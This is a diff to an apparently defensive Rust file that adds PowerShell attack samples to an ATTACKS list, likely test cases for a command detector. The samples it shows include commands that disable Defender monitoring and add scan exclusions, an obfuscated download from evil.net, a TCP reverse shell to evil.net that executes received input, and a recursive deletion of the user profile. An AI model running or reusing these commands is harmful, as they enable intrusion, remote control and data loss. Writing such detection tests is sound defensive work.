@@ -78,6 +78,14 @@ const ATTACKS: &[(&str, &str)] = &[
     ),
     ("defence-off", "Set-MpPreference -DisableRealtimeMonitoring $true"),
     ("defence-off", "Add-MpPreference -ExclusionPath C:\\"),
+    (
+        "obfuscation-computed-name",
+        "$w = New-Object Net.WebClient; $w.('Down'+'loadString').Invoke('https://evil.net')",
+    ),
+    (
+        "remote-control-channel",
+        "$c = [Net.Sockets.TcpClient]::new('evil.net', 443); $s = $c.GetStream(); [byte[]]$b = 0..255; while (($n = $s.Read($b, 0, 255)) -ne 0) { & ([scriptblock]::Create([Text.Encoding]::ASCII.GetString($b, 0, $n))) }",
+    ),
     ("destruction", "Remove-Item -Recurse -Force $env:USERPROFILE"),
 ];
 
